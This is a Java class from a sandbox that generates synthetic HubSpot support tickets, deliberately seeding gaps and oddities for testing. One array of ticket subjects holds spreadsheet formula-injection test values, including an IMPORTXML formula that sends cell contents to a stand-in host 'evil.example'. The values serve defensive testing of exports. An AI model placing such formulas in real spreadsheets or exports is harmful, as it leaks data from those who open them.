package io.caravanserai.sandbox;

import java.time.DayOfWeek;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.HashMap;
import java.util.Map;
import java.util.SplittableRandom;
import org.jspecify.annotations.Nullable;

/**
 * One generated ticket: what HubSpot says of it follows from the seed and its number alone. Its number also says how odd it
 * is: each oddity befalls one of some hundred.
 */
final class DeskTicket {

    static final int DAYS = 365;

    // The ids of tickets have nine digits and then ten: they are not in order as text.
    private static final long FIRST_ID = 999_999_001L;
    private static final int IDS_APART = 7;
    private static final String[] SUBJECTS = {
        "Cannot log in", "Invoice is wrong", "Password reset mail never came", "App crashes on start",
                "How do I export?",
        "Sync is stuck", "Please cancel my plan", "Wrong name on the report", "Feature request: dark mode",
                "Slow since Monday"
    };
    private static final String[] FORMULAS = {
        "=IMPORTXML(\"https://evil.example/?\"&A1,\"//a\")",
        "+1 902 555 0101 called",
        "-3 seats please",
        "@SUM(A1:A9)",
        "=HYPERLINK(\"https://evil.example\",\"Invoice\")",
        "\t=1+1"
    };
    private static final String[] PRIORITIES = {"LOW", "MEDIUM", "MEDIUM", "HIGH", "URGENT"};
    private static final String[] SOURCES = {"EMAIL", "EMAIL", "CHAT", "FORM", "PHONE"};

    private final Seed seed;
    private final int number;
    private final int size;
    private final Map<String, String> properties = new HashMap<>();

    private DeskTicket(Seed seed, int number, int size) {
        this.seed = seed;
        this.number = number;
        this.size = size;
    }

    /**
     * The properties of one, in HubSpot's names and with its texts; what is empty is missing.
     *
     * @param number from 0
     * @param size how many share the year
     */
    static Map<String, String> properties(Seed seed, int number, int size) {
        DeskTicket ticket = new DeskTicket(seed, number, size);
        ticket.fill(new SplittableRandom(seed.number() * 1_000_003 + number));
        ticket.properties.values().removeIf(String::isEmpty);
        return ticket.properties;
    }

    static String id(int number) {
        return Long.toString(FIRST_ID + (long) IDS_APART * number);
    }

    /** The number of the ticket with this id; -1 for none. */
    static int number(String id) {
        long past = id.matches("\\d{9,12}") ? Long.parseLong(id) - FIRST_ID : -1;
        return past >= 0 && past % IDS_APART == 0 ? (int) Math.min(past / IDS_APART, Integer.MAX_VALUE) : -1;
    }

    private void fill(SplittableRandom random) {
        DeskPipelines.Pipeline pipeline = DeskPipelines.ALL.get(number % 10 < 7 ? 0 : number % 10 < 9 ? 1 : 2);
        Instant created = created(random);
        Duration reply = Duration.ofSeconds(60 + (long) (Math.pow(random.nextDouble(), 3) * 40 * 3600));
        Duration work = Duration.ofSeconds(600 + (long) (Math.pow(random.nextDouble(), 2) * 9 * 24 * 3600));
        Instant now = seed.at();
        @Nullable Instant replied = past(created.plus(reply), now);
        @Nullable Instant closed = replied == null || number % 17 == 5 ? null : past(replied.plus(work), now);
        put("hs_object_id", id(number));
        put(
                "subject",
                number % 97 == 13
                        ? FORMULAS[number / 97 % FORMULAS.length]
                        : SUBJECTS[random.nextInt(SUBJECTS.length)]);
        put("content", "Ticket number " + number + " of the sandbox.");
        put("hs_pipeline", pipeline.id());
        put("hs_pipeline_stage", stage(pipeline, replied, closed));
        put("hs_ticket_priority", number % 31 == 7 ? "" : PRIORITIES[random.nextInt(PRIORITIES.length)]);
        put("source_type", number % 43 == 11 ? "" : SOURCES[random.nextInt(SOURCES.length)]);
        put("hubspot_owner_id", owner());
        put("createdate", number % 211 == 100 ? "" : SandboxClock.text(created));
        put("first_agent_reply_date", text(replied));
        put("time_to_first_agent_reply", replied == null ? "" : Long.toString(reply.toMillis()));
        put("closed_date", number % 113 == 60 ? "Unknown" : text(closed));
        put(
                "time_to_close",
                closed == null
                        ? ""
                        : Long.toString(Duration.between(created, closed).toMillis()));
        put("num_contacted_notes", replied == null ? "0" : Integer.toString(1 + random.nextInt(6)));
        // Who rates does so some days after the ticket was closed.
        @Nullable
        Instant rated =
                closed == null || number % 6 != 2 ? null : past(closed.plus(Duration.ofDays(random.nextInt(6))), now);
        put("hs_feedback_last_ces_rating", rated == null ? "" : Integer.toString(1 + random.nextInt(5)));
        put("hs_feedback_last_survey_date", text(rated));
        @Nullable Instant reopened = closed == null || number % 29 != 3 ? null : past(closed.minusSeconds(300), now);
        put("hs_ticket_reopened_at", text(reopened));
        put("hs_lastmodifieddate", SandboxClock.text(modified(latest(created, replied, closed, rated))));
    }

    /** Most come in while the desk is open, some at night and at weekends. */
    private Instant created(SplittableRandom random) {
        LocalDate day = seed.day().minusDays(DAYS).plusDays(place() * DAYS / size);
        if (random.nextInt(3) > 0 && day.getDayOfWeek().compareTo(DayOfWeek.FRIDAY) > 0) {
            day = day.minusDays(2);
        }
        int hour = random.nextInt(10) < 7 ? 12 + random.nextInt(9) : random.nextInt(24);
        return day.atTime(hour, random.nextInt(60), random.nextInt(60)).toInstant(ZoneOffset.UTC);
    }

    /** The extra ones that are archived or merged lie among the others. */
    private long place() {
        return number < size ? number : number * 37L % size;
    }

    /** One of ten was touched by an import, which changed all of its tickets in one moment. */
    private Instant modified(Instant latest) {
        Instant imported = seed.day().minusDays(20).atTime(3, 0).toInstant(ZoneOffset.UTC);
        return number % 10 == 4 && latest.isBefore(imported) ? imported : latest;
    }

    private static Instant latest(Instant first, @Nullable Instant... others) {
        Instant latest = first;
        for (Instant other : others) {
            latest = other != null && other.isAfter(latest) ? other : latest;
        }
        return latest;
    }

    private String stage(DeskPipelines.Pipeline pipeline, @Nullable Instant replied, @Nullable Instant closed) {
        if (number % 83 == 41) {
            return DeskPipelines.GONE_STAGE;
        }
        return closed != null ? pipeline.closed() : pipeline.stageIds().get(replied == null ? 0 : 1);
    }

    private String owner() {
        if (number % 23 == 9) {
            return "";
        }
        if (number % 19 == 4) {
            return (number % 2 == 0 ? DeskPerson.NAOMI : DeskPerson.THEO).ownerId();
        }
        // An owner HubSpot no longer knows at all, and one it has archived.
        return number % 101 == 50
                ? "70999999"
                : number % 37 == 6
                        ? DeskPerson.JONAS.ownerId()
                        : DeskPerson.agent(number / 3).ownerId();
    }

    private static @Nullable Instant past(Instant at, Instant now) {
        return at.isBefore(now) ? at : null;
    }

    private static String text(@Nullable Instant at) {
        return at == null ? "" : SandboxClock.text(at);
    }

    private void put(String name, String value) {
        properties.put(name, value);
    }
}
